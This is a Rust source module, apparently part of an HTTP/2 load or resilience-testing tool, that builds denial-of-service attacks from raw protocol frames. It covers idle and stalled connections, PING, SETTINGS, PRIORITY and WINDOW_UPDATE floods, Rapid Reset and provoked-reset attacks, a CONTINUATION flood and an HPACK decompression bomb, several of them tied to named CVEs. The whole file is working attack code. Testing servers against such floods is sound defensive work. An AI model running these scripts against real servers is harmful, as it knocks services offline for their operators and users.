//! Attacks with HTTP/2 frames.

use super::{Attack, Script};
use crate::frames::{
    ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE,
    MAX_PAYLOAD, PING, PRIORITY, RST_STREAM, Request, SETTINGS, WINDOW_UPDATE, block, frame,
    opening, stream,
};

/// The frames in one write of a flood.
const BATCH: u32 = 1000;

/// A connection without a request.
#[must_use]
pub fn idle(connections: u32) -> Attack {
    Script::new(opening(&[])).over(connections)
}

/// Requests that wait for a slow response; the responses are read.
#[must_use]
pub fn parked(request: &Request, streams: u32, connections: u32) -> Attack {
    Script::new([opening(&[]), whole(request, streams)].concat()).over(connections)
}

/// Requests whose body never comes.
#[must_use]
pub fn unfinished(request: &Request, streams: u32, connections: u32) -> Attack {
    let requests: Vec<_> = (0..streams).map(|it| request.open(stream(it))).collect();
    Script::new([opening(&[]), requests.concat()].concat()).over(connections)
}

/// Requests whose responses have a window of 0.
#[must_use]
pub fn zero_windows(request: &Request, streams: u32, connections: u32) -> Attack {
    unread(request, 0, streams, connections)
}

/// Requests whose responses are not read, although their windows are open.
#[must_use]
pub fn unread_streams(request: &Request, streams: u32, connections: u32) -> Attack {
    unread(request, i32::MAX.cast_unsigned(), streams, connections)
}

fn unread(request: &Request, window: u32, streams: u32, connections: u32) -> Attack {
    let first = [
        opening(&[(INITIAL_WINDOW_SIZE, window)]),
        frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0, 0, 0]),
        whole(request, streams),
    ];
    Script::new(first.concat()).unread().over(connections)
}

fn whole(request: &Request, streams: u32) -> Vec<u8> {
    let requests: Vec<_> = (0..streams).map(|it| request.whole(stream(it))).collect();
    requests.concat()
}

/// PING frames.
#[must_use]
pub fn ping_flood() -> Attack {
    flood(&frame(PING, 0, 0, &[0; 8]))
}

/// Acknowledgements of PING frames that the server never sent.
#[must_use]
pub fn ping_ack_flood() -> Attack {
    flood(&frame(PING, ACK, 0, &[0; 8]))
}

/// SETTINGS frames, each of which the server acknowledges.
#[must_use]
pub fn settings_flood() -> Attack {
    flood(&frame(SETTINGS, 0, 0, &[]))
}

/// WINDOW_UPDATE frames of the connection.
#[must_use]
pub fn window_update_flood() -> Attack {
    flood(&frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
}

/// PRIORITY frames of a stream that was never opened.
#[must_use]
pub fn priority_flood() -> Attack {
    flood(&frame(PRIORITY, 0, stream(0), &[0, 0, 0, 0, 16]))
}

fn flood(frame: &[u8]) -> Attack {
    let batch = frame.repeat(BATCH as usize);
    Script::new(opening(&[]))
        .flood(move |_| batch.clone())
        .over(1)
}

/// DATA frames without content, on a request that does not end.
#[must_use]
pub fn empty_data_flood(request: &Request) -> Attack {
    let batch = frame(DATA, 0, stream(0), &[]).repeat(BATCH as usize);
    Script::new([opening(&[]), request.open(stream(0))].concat())
        .flood(move |_| batch.clone())
        .over(1)
}

/// Requests that the client resets at once (CVE-2023-44487).
#[must_use]
pub fn rapid_reset(request: &Request) -> Attack {
    reset(request, RST_STREAM, CANCEL.to_be_bytes())
}

/// Requests that the client makes the server reset, by a WINDOW_UPDATE of 0
/// (CVE-2025-8671).
#[must_use]
pub fn provoked_reset(request: &Request) -> Attack {
    reset(request, WINDOW_UPDATE, [0; 4])
}

fn reset(request: &Request, kind: u8, payload: [u8; 4]) -> Attack {
    let request = request.clone();
    let batch = move |round: u32| {
        let streams = (round * BATCH..(round + 1) * BATCH).map(stream);
        let frames = streams
            .flat_map(|stream| [request.whole(stream), frame(kind, 0, stream, &payload)].concat());
        frames.collect()
    };
    Script::new(opening(&[])).flood(batch).over(1)
}

/// A HEADERS frame after which CONTINUATION frames must follow.
fn unfinished_block() -> Vec<u8> {
    frame(HEADERS, 0, stream(0), Request::get("/").block())
}

/// A header block that never ends, as fast as the server reads (CVE-2024-27316).
#[must_use]
pub fn continuation_flood() -> Attack {
    let field = block(&[("x-field", &"y".repeat(100))]);
    let fields = field.repeat(MAX_PAYLOAD / field.len());
    let batch = frame(CONTINUATION, 0, stream(0), &fields);
    Script::new([opening(&[]), unfinished_block()].concat())
        .flood(move |_| batch.clone())
        .over(1)
}

/// CONTINUATION frames without content.
#[must_use]
pub fn empty_continuation_flood() -> Attack {
    let batch = frame(CONTINUATION, 0, stream(0), &[]).repeat(BATCH as usize);
    Script::new([opening(&[]), unfinished_block()].concat())
        .flood(move |_| batch.clone())
        .over(1)
}

/// A header block that does not end, and then nothing.
#[must_use]
pub fn unfinished_headers(connections: u32) -> Attack {
    Script::new([opening(&[]), unfinished_block()].concat()).over(connections)
}

/// Header blocks that name one large field of the dynamic table over and over.
#[must_use]
pub fn hpack_bomb() -> Attack {
    // Literals with incremental indexing; the length is 127 + 128 * 30 + 1.
    let large = [&[0x40, 1, b'x', 0x7f, 0x81, 0x1e], &[b'y'; 3968][..]].concat();
    let bomb = [
        Request::get("/").block(),
        &large,
        &vec![0x80 | 62; MAX_PAYLOAD - 5000],
    ]
    .concat();
    let batch = move |round: u32| frame(HEADERS, END_HEADERS | END_STREAM, stream(round), &bomb);
    Script::new(opening(&[])).flood(batch).over(1)
}
